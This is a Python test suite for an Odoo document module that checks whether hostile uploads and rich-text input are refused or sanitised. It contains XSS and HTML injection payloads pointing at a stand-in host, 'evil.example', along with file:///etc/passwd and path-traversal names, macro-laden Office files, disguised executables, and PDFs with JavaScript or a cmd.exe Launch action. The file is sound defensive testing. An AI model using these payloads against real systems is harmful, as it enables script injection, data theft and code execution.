import base64
import io
import unicodedata
import zipfile

from PIL import Image

from odoo import Command
from odoo.exceptions import UserError
from odoo.tests import tagged
from odoo.tools import html_sanitize

from ..lib import file_check, pdf_layers, rich_text
from .common import DocumentCase

EVIL = "http://evil.example/x"
SAMPLES = (
    "<p>a</p><script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">b',
    '<p style="position:fixed;top:0;background:url(http://evil.example/x)">c</p>',
    f'<p>d<img src="{EVIL}.png" width="1" height="1"></p>',
    '<p>e<img src="file:///etc/passwd"></p>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">f</a><a href="javascript:alert(1)">g</a>',
    '<svg onload="alert(1)"><script>1</script></svg>h',
    f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}">i',
    f'<form action="{EVIL}"><input name="password"></form><p>j</p>',
    f'<video src="{EVIL}"></video><audio src="{EVIL}"></audio><link rel="stylesheet" href="{EVIL}">k',
    '<p t-att-x="1" t-out="request">l</p><a href="file:///C:/x">m</a>',
    '<p class="MsoNormal" style="mso-list:l0"><!--[if !supportLists]-->1.<!--[endif]--> First<o:p></o:p></p>n',
    f'<table background="{EVIL}"><tr><td style="border:1px solid">Café\u0301</td></tr></table>',
    f'<img srcset="{EVIL} 2x" src="/web/image/999999999">o<meta http-equiv="refresh" content="0;url={EVIL}">',
    '<style>@import "http://evil.example/x"</style><base href="http://evil.example/x">p',
)
FORBIDDEN = ("script", "onerror", "onload", "position", "evil.example/x", "file:", "data:text", "javascript:",
             "<svg", "<form", "<iframe", "<video", "<!--", "t-out", "t-att", "<o:p", "<style", "<meta",
             "<base")  # fmt: skip


def office(parts, kind="word/"):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {f"{kind}document.xml": b"<w:p>x</w:p>", "[Content_Types].xml": b"<Types/>", **parts}.items():
            archive.writestr(name, data)
    return target.getvalue()


def gif():
    target = io.BytesIO()
    Image.new("P", (2, 2)).save(target, "GIF")
    return target.getvalue()


REL = b'<Relationship Type="http://x/relationships/%s" Target="http://evil.example/" TargetMode="External"/>'
REFUSED = [
    ("a.svg", b"<svg/>", "scripts"),
    ("a.html", b"<p>a</p>", "scripts"),
    ("a.txt", b"\xef\xbb\xbf <!DOCTYPE html><p>", "scripts"),
    ("a.pdf.exe", b"MZ", "Possible are"),
    ("a.pdf", b"MZ\x90", "not what its name says"),
    ("a.png", b"<svg onload='x'/>", "not what its name says"),
    ("a.docm", office({}), "macros"),
    ("a.docx", office({"word/vbaProject.bin": b"x"}), "macros"),
    ("a.docx", office({"[Content_Types].xml": b"vnd.ms-word.document.macroEnabled.main+xml"}), "macros"),
    ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le"), "macros"),
    ("a.docx", office({"word/_rels/settings.xml.rels": REL % b"attachedTemplate"}), "from elsewhere"),
    ("a.docx", office({"word/media/big.bin": b"\0" * 30_000_000}), "larger inside"),
    ("a.docx", office({f"word/{n}": b"" for n in range(5100)}), "larger inside"),
    ("a.xlsx", office({}), "not what its name says"),
    ("a.zip", office({}), "archives"),
    ("a.gif", gif() + office({}), "two kinds"),
    ("a.pdf", b"%PDF-1.4\n" + office({}), "two kinds"),
    ("a.pdf", b"%PDF-1.4 << /S /JavaScript /JS (app.alert(1)) >>", "scripts, actions"),
    ("a.pdf", b"%PDF-1.4 << /S /L#61unch /F (cmd.exe) >>", "scripts, actions"),
    ("a.pdf", b"", "empty"),
]
TAKEN = [
    ("report.pdf", pdf_layers.blank(1)),
    ("broken.pdf", pdf_layers.blank(1)[:300]),
    ("a.docx", office({"word/_rels/document.xml.rels": REL % b"hyperlink"})),
    ("a.gif", gif()),
    ("a.csv", "编号,名称\n".encode("gb18030")),
    ("locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")),
]


@tagged("post_install", "-at_install", "sqms_alone")
class TestHostileFiles(DocumentCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.files = cls.env["ir.attachment"].with_user(cls.officer)
        cls.draft = cls._create_draft()

    def _home(self, record=None):
        record = record or self.draft
        return {"res_model": record._name, "res_id": record.id}

    def test_what_is_refused_and_why(self):
        for name, content, words in REFUSED:
            for record in (self.draft, self.draft.document_id):
                with self.assertRaisesRegex(UserError, words, msg=name):
                    self.files.create({"name": name, "raw": content, **self._home(record)})

    def test_what_is_taken_has_the_type_of_its_bytes(self):
        for name, content in TAKEN:
            file = self.files.create({"name": name, "raw": content, "mimetype": "text/html", **self._home()})
            self.assertEqual(file.mimetype, file_check.MIMETYPES[name.rpartition(".")[2]])
            self.assertEqual(file.raw, content)

    def test_every_way_in(self):
        bad = {"name": "a.svg", "raw": b"<svg onload='x()'/>"}
        home = self._home()
        theirs = {**bad, "res_model": "res.partner", "res_id": self.officer.partner_id.id}
        ways = {
            "base64": lambda: self.files.create({"name": "a.svg", "datas": base64.b64encode(bad["raw"]), **home}),
            "default": lambda: self.files.with_context(default_res_model=home["res_model"]).create(
                {**bad, "res_id": home["res_id"]}
            ),
            "re-linked": lambda: self.files.create(bad).write(home),
            "re-linked in two steps": lambda: self.files.create({**bad, "res_id": home["res_id"]}).write(
                {"res_model": home["res_model"]}
            ),
            "command": lambda: self.draft.write({"file_ids": [Command.create(bad)]}),
            "linked": lambda: self.draft.write({"file_ids": [Command.link(self.files.create(bad).id)]}),
            "of another record": lambda: self.draft.write({"file_ids": [Command.link(self.files.create(theirs).id)]}),
            "with the edition": lambda: self._create_draft(
                self._create_document("New"), file_ids=[Command.create(bad)]
            ),
            "superuser": lambda: self.files.sudo().create({**bad, **home}),
            "chatter": lambda: self.draft.message_post(
                body="x",
                attachment_ids=self.files.create({**bad, "res_model": "mail.compose.message", "res_id": 0}).ids,
            ),
            "link": lambda: self.files.create({"name": "a", "type": "url", "url": "javascript:alert(1)", **home}),
            "import": lambda: self._load(bad, home),
        }  # fmt: skip
        for way, work in ways.items():
            with self.subTest(way), self.assertRaises(UserError), self.env.cr.savepoint():
                work()
        good = self.files.create({"name": "a.pdf", "raw": b"%PDF-1.4", **home})
        for values in ({"raw": bad["raw"]}, {"datas": base64.b64encode(b"MZ")}, {"name": "a.svg"}, {"name": "a.exe"},
                       {"type": "url", "url": "http://evil.example"}):  # fmt: skip
            with self.assertRaises(UserError), self.env.cr.savepoint():
                good.write(values)
        good.write({"mimetype": "text/html"})
        self.assertEqual(good.mimetype, "application/pdf")
        # Other files of Odoo are none of our business.
        self.assertTrue(self.files.create(bad))

    def _load(self, bad, home):
        result = self.files.load(
            ["name", "datas", "res_model", "res_id"],
            [[bad["name"], base64.b64encode(bad["raw"]).decode(), home["res_model"], str(home["res_id"])]],
        )
        self.assertFalse(result["ids"])
        raise UserError(result["messages"][0]["message"])

    def test_size(self):
        self.env["ir.config_parameter"].sudo().set_param("sqms_base.max_file_mb", "1")
        for values in ({"raw": b"x" * 1_100_000}, {"datas": base64.b64encode(b"x" * 1_100_000)},
                       {"datas": b"A" * 3_000_000}):  # fmt: skip
            with self.assertRaisesRegex(UserError, "larger than 1 MB"):
                self.files.create({"name": "a.txt", **values, **self._home()})
        self.assertEqual(file_check.check("a.txt", b"x" * 100_000_000).reason, "large")

    def test_names(self):
        for name, kept in (
            ("../../etc/passwd.txt", "passwd.txt"),
            ("C:\\a\\b.txt", "b.txt"),
            ("in\u202etxt.voice\x00\n.txt", "intxt.voice.txt"),
            ('a"<b>.txt', "a__b_.txt"),
            ("长" * 300 + ".txt", "长" * 116 + ".txt"),
        ):
            file = self.files.create({"name": name, "raw": b"words", **self._home()})
            self.assertEqual(file.name, kept)
            self.assertEqual(file.mimetype, "text/plain")

    def test_a_mail_comes_in_without_its_bad_file(self):
        message = self.draft.document_id.message_post(
            body="See attached.", attachments=[("a.svg", b"<svg/>"), ("b.txt", b"words")]
        )
        self.assertEqual(message.attachment_ids.mapped("name"), ["b.txt"])
        self.assertIn("a.svg was left out", message.body)
        self.assertIn("See attached.", message.body)

    # -- rich text -----------------------------------------------------------

    def _assert_clean(self, text, sample):
        for words in FORBIDDEN:
            self.assertNotIn(words, text or "", sample)

    def test_hostile_text_by_every_path(self):
        versions = self.env["sqms.document.version"].with_user(self.officer)
        self.env["res.lang"]._activate_lang("zh_CN")
        for number, sample in enumerate(SAMPLES):
            document = self._create_document(f"D{number}")
            draft = versions.create({"document_id": document.id, "content": sample})
            self._assert_clean(draft.content, sample)
            draft.content = "<p>words</p>"
            draft.update_field_translations("content", {"zh_CN": {"words": sample}})
            self._assert_clean(draft.with_context(lang="zh_CN").content, sample)
            draft.with_context(lang="zh_CN").content = sample
            self._assert_clean(draft.with_context(lang="zh_CN").content, sample)
            result = versions.load([".id", "content"], [[str(draft.id), sample]])
            self.assertTrue(result["ids"], result)
            self._assert_clean(draft.content, sample)
            draft.unlink()
            draft = versions.with_context(default_content=sample).create({"document_id": document.id})
            self._assert_clean(draft.content, sample)
            # The administrator has no way round either.
            draft = draft.with_user(self.env.ref("base.user_admin"))
            draft.sudo().write({"content": sample})
            self._assert_clean(draft.sudo().content, sample)

    def test_cleaning_twice_changes_nothing(self):
        for sample in SAMPLES:
            once = self._sanitized(sample)
            self.assertEqual(self._sanitized(once), once)
            self.assertEqual(once, unicodedata.normalize("NFC", once))

    def _sanitized(self, text):
        return str(html_sanitize(rich_text.clean(text, {}.get), sanitize_style=True, strip_classes=True))
